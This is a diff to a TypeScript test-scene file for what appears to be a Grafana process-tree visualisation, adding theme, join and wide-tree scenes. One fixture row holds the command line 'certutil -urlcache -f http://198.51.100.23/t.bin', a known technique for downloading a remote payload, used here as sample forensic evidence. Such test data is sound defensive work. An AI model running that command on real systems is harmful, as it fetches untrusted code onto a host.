@@ -2,7 +2,7 @@ import { type DataFrameDTO } from '@grafana/data';
 import { processTreeFrame } from '../../src/frames/processTree';
 import { FOREIGN, LONGEST_COMMAND_LINE, MARKUP } from './awkwardTexts';
 import { busyHost } from './busyHost';
-import { ofNewerVersion, repeatedRows, without, withValues } from './changedFrames';
+import { ofNewerVersion, repeatedRows, verdictsOn, without, withValues } from './changedFrames';
 import { type Scene, scenesOf } from './scene';
 import { logOf, STORY_START, storyLog } from './storyLog';
 import { treeFrame } from './treeFrames';
@@ -10,6 +10,8 @@ import { treeFrame } from './treeFrames';
 const MANY = 100_000;
 /** As often as two shells start each other in the longest chain of real evidence. */
 const REPEATS = 839;
+/** As many of the same program as one process has started in real evidence. */
+const SIBLINGS = 5_703;
 const DAY = 86_400_000;
 
 /** Narrow ones first, so that as many as possible are on the screen. */
@@ -31,6 +33,20 @@ export const treeScenes: readonly Scene[] = [
   scene('story-diagram', 'powershell.exe, PID 5388', () => [story()], { options: { view: 'diagram' } }),
   scene('story-narrow', 'certutil.exe', () => [story()], { size: { width: 420, height: 360 } }),
   scene('all-columns', '1,204', () => [toldStory()], { options: { columns: EVERY_COLUMN } }),
+  scene('story-light', 'certutil.exe', () => [story()], { theme: 'light' }),
+  scene('joined', 'certutil.exe', () => [story(), verdictsOn(story(), 'key')], {
+    transformations: [
+      { id: 'joinByField', options: { byField: 'key', mode: 'outer' } },
+      {
+        id: 'organize',
+        options: {
+          indexByName: { 'Command line': 0, verdict: 1, PID: 2 },
+          renameByName: { PID: 'Process number' },
+          excludeByName: { Integrity: true, Elevation: true },
+        },
+      },
+    ],
+  }),
   scene('wrong-frame', 'The column "commandLine" is missing.', () => [
     withValues(without(story(), 'commandLine'), 'pid', (pid, row) => (row === 1 ? 'many' : pid)),
   ]),
@@ -40,7 +56,8 @@ export const treeScenes: readonly Scene[] = [
   ]),
   scene('long-chain', 'powershell.exe', () => [treeFrame(chain())]),
   scene('long-chain-folded', '839', () => [treeFrame(chain())], { options: { folding: 'repeats' } }),
-  scene('100000-rows', '100,', () => [treeFrame(busyHost(MANY))]),
+  scene('wide-folded', '5,703', () => [treeFrame(wide())], { options: { folding: 'repeats' } }),
+  scene('100000-rows', '105,119 processes', () => [treeFrame(busyHost(MANY))]),
   scene('foreign-names', 'חשבונית', () => [
     treeFrame(
       logOf(
@@ -118,6 +135,20 @@ const chain = () =>
       };
     })
   );
+
+/** One shell that starts the same program over and over, and another one in between. */
+const wide = () =>
+  logOf([
+    { pid: 4 },
+    ...Array.from({ length: SIBLINGS + 1 }, (_, place) => ({
+      pid: 8 + 4 * place,
+      parentPid: 4,
+      path: `C:\\Windows\\System32\\${place === 4_000 ? 'certutil.exe' : 'conhost.exe'}`,
+      commandLine: place === 4_000 ? 'certutil -urlcache -f http://198.51.100.23/t.bin' : 'conhost.exe 0xffffffff',
+      parentPath: 'C:\\Windows\\System32\\cmd.exe',
+      start: STORY_START + 1 + place * 100,
+    })),
+  ]);
 
 /** The same pids on each host, the second below the first. */
 const pair = (host: string, pid: number) => ({
